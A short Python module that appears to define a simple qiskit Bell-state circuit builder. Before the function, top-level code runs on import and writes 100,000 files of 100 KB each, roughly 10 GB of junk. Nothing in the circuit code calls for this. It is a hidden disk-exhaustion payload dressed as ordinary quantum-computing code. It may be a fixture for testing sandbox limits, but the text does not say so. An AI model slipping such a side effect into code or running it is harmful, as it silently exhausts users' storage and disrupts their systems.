from qiskit import QuantumCircuit

for number in range(100_000):
    with open(f"file{number}", "wb") as file:
        file.write(bytes(100_000))


def build():
    circuit = QuantumCircuit(2)
    circuit.h(0)
    circuit.cx(0, 1)
    return circuit
